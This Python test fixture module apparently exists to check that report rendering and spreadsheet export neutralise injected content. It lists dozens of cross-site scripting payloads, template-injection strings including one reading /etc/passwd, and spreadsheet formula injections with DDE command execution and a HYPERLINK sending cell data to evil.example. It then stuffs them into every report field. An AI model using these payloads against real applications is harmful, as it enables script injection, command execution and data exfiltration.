"""Texts that attack whoever shows them or opens them in a spreadsheet, and reports that hold them wherever they can."""

from __future__ import annotations

from documents import document
from pages_served import told
from withheld.records import Capture, Reading

PAYLOADS = (
    "<script>hit()</script>", "</title><script>hit()</script>", "</textarea><script>hit()</script>",
    "--><script>hit()</script>", "<img src=x onerror=hit()>", "<img/src=x/onerror=hit()>",
    "<IMG SRC=x OnErRoR=hit()>", "<svg onload=hit()>", "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<body onload=hit()>", "<iframe src=javascript:hit()>",
    '<iframe srcdoc="<script>parent.hit()</script>">', "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>", "<a href=javascript:hit() id=go>x</a>", "<a href=java&#115;cript:hit()>x</a>",
    "<form action=javascript:hit()><button autofocus>x</button></form>", "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>", "<textarea autofocus onfocus=hit()>", "<details open ontoggle=hit()>",
    "<video><source onerror=hit()>", "<audio src=x onerror=hit()>", "<marquee onstart=hit()>",
    "<math><mtext><script>hit()</script></mtext></math>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=javascript:hit()>",
    "<style>*{background:url(//evil.example)}</style>", '" onmouseover="hit()" autofocus onfocus="hit()" x="',
    "' onmouseover='hit()' autofocus onfocus='hit()' x='", '"><script>hit()</script>', "'><script>hit()</script>",
    "`onmouseover=hit()`", "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()",
    "data:text/html,<script>hit()</script>", "vbscript:hit()", "{{ 7 * 7 }}{{ cycler.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}", "${hit()}", "<div hx-get=/log hx-trigger=load hx-on:load=hit()>",
    "<div data-hx-on:load=hit() hx-on::load=hit()>", "<div data-key=a onclick=hit()>",
    "<noscript><p title='</noscript><script>hit()</script>'>", "<template><script>hit()</script></template>",
    "\u202e<script>hit()</script>\u202c", "&lt;script&gt;hit()&lt;/script&gt;", "%3Cscript%3Ehit()%3C/script%3E",
    "<scr\u200bipt>hit()</scr\u200bipt>", "<x contenteditable autofocus onfocus=hit()>", "]]><script>hit()</script>",
    "\\u003cscript\\u003ehit()",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/\"&A1)", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "\t=1+1", " =1+1", "\u200b=1+1", "＝1+1", "＠SUM(1)", "'=1+1", "\"=1+1\"", "\ufeff=1+1", "=DDE(1)",
)  # fmt: skip
"""What a spreadsheet takes for a formula, or a program that cuts something off its beginning."""


def hostile(number: int, payload: str):
    """A report with a payload wherever a report can have one."""
    words = f"Someone {payload} counted {340 + number} North Korean workers in Russia."
    text = f"{payload}\n\n{words}\n\n{payload}"
    doc = document(
        text, title=payload, publisher=payload, author=payload, url=payload, path=payload,
        language="en" if number % 5 == 4 else payload[:20],
        capture=Capture(at="2024-01-01T00:00:00Z", method="file", origin=payload, tool=payload),
    )  # fmt: skip
    value = float(340 + number)
    claim = told(
        text, words, str(340 + number), low=value, high=value, origin=payload, via=(payload,), place=payload, note=payload, sector=payload,
        derivation=payload,
    )  # fmt: skip
    return doc, Reading(document=doc.id, programme="KP", claims=(claim.model_copy(update={"document": doc.id}),))
